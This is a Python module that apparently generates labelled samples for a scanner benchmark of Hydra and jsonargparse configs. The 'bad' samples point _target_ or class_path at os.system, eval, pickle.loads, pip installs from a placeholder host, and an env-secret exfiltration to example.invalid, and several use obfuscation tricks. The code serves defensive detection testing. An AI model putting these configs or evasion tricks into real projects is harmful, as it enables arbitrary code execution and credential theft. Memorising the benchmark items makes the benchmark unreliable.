"""Configurations that name callables: hydra targets and class paths."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from bench.corpus.unit import COMMAND, HOST, Family, Unit

HYDRA = Family("hydra", "hydra.utils.instantiate, jsonargparse")


def units(rng: random.Random) -> Iterator[Unit]:
    yield from _hydra()
    yield from _honest_hydra(rng)


def _hydra() -> Iterator[Unit]:
    def bad(technique: str, variant: str, text: object, name: str = "config.yaml") -> Unit:
        return HYDRA.bad(technique, variant, {name: text})

    head = "model:\n  _target_: torch.nn.Linear\n  in_features: 4\n  out_features: 2\n"
    for variant, target, rest in (
        ("os-system", "os.system", f"  command: {COMMAND}\n"),
        ("posix", "posix.system", f"  command: {COMMAND}\n"),
        ("subprocess", "subprocess.run", "  args: [touch, corpus-marker]\n"),
        ("popen", "subprocess.Popen", "  args: [touch, corpus-marker]\n"),
        ("eval", "builtins.eval", "  _args_: [\"__import__('os').system('true')\"]\n"),
        ("exec", "builtins.exec", "  _args_: [\"import os; os.system('true')\"]\n"),
        ("runpy", "runpy.run_path", "  path_name: /tmp/x.py\n"),
        ("pickle", "pickle.loads", "  _args_: [\"cos\\nsystem\\n(S'true'\\ntR.\"]\n"),
        ("joblib", "joblib.load", f"  filename: http://{HOST}/x\n"),
        ("torch-load", "torch.load", "  f: /tmp/x.pt\n  weights_only: false\n"),
        ("numpy-load", "numpy.load", "  file: /tmp/x.npy\n  allow_pickle: true\n"),
        ("hub", "torch.hub.load", f"  repo_or_dir: {HOST}/x\n  model: m\n"),
        ("importlib", "importlib.import_module", "  name: antigravity\n"),
        ("open", "builtins.open", "  file: /tmp/corpus-marker\n  mode: w\n"),
        ("urlretrieve", "urllib.request.urlretrieve", f"  url: http://{HOST}/x\n"),
        ("ctypes", "ctypes.CDLL", "  name: /tmp/libevil.so\n"),
        ("shutil", "shutil.rmtree", "  path: /tmp/no-such\n"),
        ("pip", "pip.main", f"  args: [install, 'http://{HOST}/x.whl']\n"),
    ):
        yield bad("target", variant, head + f"callback:\n  _target_: {target}\n{rest}")
    deep = {"trainer": {"callbacks": [{"a": [{"_target_": "os.system", "command": COMMAND}]}]}}
    yield bad("target-nested", "json", deep, "config.json")
    yield bad(
        "target-nested",
        "flow-style",
        f"{head}x: {{y: [{{_target_: os.system, command: {COMMAND}}}]}}\n",
    )
    yield bad(
        "target-nested",
        "partial",
        head
        + f"hook:\n  _target_: functools.partial\n  _args_:\n  - _target_: hydra.utils.get_method\n    path: os.system\n  - {COMMAND}\n",
    )
    yield bad(
        "target-nested",
        "get-method",
        head + "hook:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
    )
    yield bad(
        "target-nested",
        "call-chain",
        head
        + "hook:\n  _target_: operator.call\n  _args_:\n  - _target_: hydra.utils.get_object\n    path: os.system\n  - 'true'\n",
    )
    yield bad(
        "target-hidden",
        "interpolation",
        head + f"a: os\nb: system\nhook:\n  _target_: ${{a}}.${{b}}\n  command: {COMMAND}\n",
    )
    yield bad(
        "target-hidden",
        "quoted-key",
        head + f'hook:\n  "_target_": "os.system"\n  command: {COMMAND}\n',
    )
    yield bad(
        "target-hidden",
        "escaped",
        head + f'hook:\n  "_tar\\u0067et_": "os.sy\\x73tem"\n  command: {COMMAND}\n',
    )
    yield bad(
        "target-hidden",
        "anchor",
        head + f"base: &b\n  _target_: os.system\n  command: {COMMAND}\nhook:\n  <<: *b\n",
    )
    yield bad(
        "target-hidden",
        "folded",
        head + f"hook:\n  _target_: >-\n    os.system\n  command: {COMMAND}\n",
    )
    yield bad(
        "target-hidden",
        "json-escape",
        json.dumps({"m": {"_target_": "X"}}).replace("X", "\\u006fs.system"),
        "config.json",
    )
    yield bad(
        "class-path",
        "popen",
        "trainer:\n  callbacks:\n  - class_path: subprocess.Popen\n    init_args:\n      args: [touch, corpus-marker]\n",
    )
    yield bad(
        "class-path",
        "json",
        {"model": {"class_path": "os.system", "init_args": {"command": COMMAND}}},
        "lightning.json",
    )
    yield bad(
        "resolver",
        "env-secret",
        head
        + "note: ${oc.env:AWS_SECRET_ACCESS_KEY}\nhook:\n  _target_: requests.get\n  url: http://example.invalid/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\n",
    )
    yield bad("resolver", "eval", head + 'lr: ${eval:\'__import__("os").system("true")\'}\n')
    yield bad(
        "detectron",
        "lazy-string",
        "_target_: detectron2.config.instantiate\ncfg:\n  _target_: subprocess.getoutput\n  cmd: 'true'\n",
    )
    yield bad(
        "detectron",
        "call",
        head
        + "model2:\n  _target_: detectron2.config.LazyCall\n  _args_: [{_target_: os.popen, cmd: 'true'}]\n",
    )


def _honest_hydra(rng: random.Random) -> Iterator[Unit]:
    for variant, target in {
        "optimizer": "torch.optim.Adam",
        "scheduler": "torch.optim.lr_scheduler.CosineAnnealingLR",
        "trainer": "lightning.pytorch.trainer.Trainer",
        "callback": "pytorch_lightning.callbacks.ModelCheckpoint",
        "own-class": "src.models.mnist_module.MNISTLitModule",
        "timm": "timm.create_model",
        "transformers": "transformers.AutoModel.from_pretrained",
        "omegaconf": "omegaconf.DictConfig",
        "partial": "functools.partial",
        "sklearn": "sklearn.ensemble.RandomForestClassifier",
        "torchvision": "torchvision.transforms.Normalize",
        "path": "pathlib.Path",
    }.items():
        text = f"defaults:\n- _self_\nseed: {rng.randrange(99)}\npart:\n  _target_: {target}\n  _partial_: true\n  lr: 0.001\n"
        yield HYDRA.good("target", variant, {"config.yaml": text})
    nested = {
        "model": {
            "_target_": "torch.nn.Sequential",
            "_args_": [{"_target_": "torch.nn.Linear", "in_features": 2, "out_features": 2}],
        }
    }
    yield HYDRA.good("target", "json", {"config.json": nested})
    yield HYDRA.good(
        "target",
        "interpolation",
        {
            "config.yaml": "paths:\n  root: ${oc.env:PROJECT_ROOT}\nrun: ${now:%Y-%m-%d}\nm:\n  _target_: torch.nn.${kind}\nkind: Linear\n"
        },
    )
    yield HYDRA.good(
        "class-path",
        "lightning",
        {
            "config.yaml": "model:\n  class_path: my.Module\n  init_args:\n    lr: 0.1\ntrainer:\n  logger:\n    class_path: lightning.pytorch.loggers.CSVLogger\n"
        },
    )
    yield HYDRA.good(
        "words",
        "command",
        {
            "config.yaml": "run:\n  command: os.system is not used here\n  script: python train.py --eval\n"
        },
    )
    jobs = "hydra:\n  launcher:\n    _target_: hydra_plugins.hydra_submitit_launcher.submitit_launcher.SlurmLauncher\n    setup: ['module load cuda', 'source activate env']\n  sweeper:\n    params: {lr: 'choice(0.1, 0.01)'}\n"
    yield HYDRA.good("target", "launcher", {"hydra.yaml": jobs})
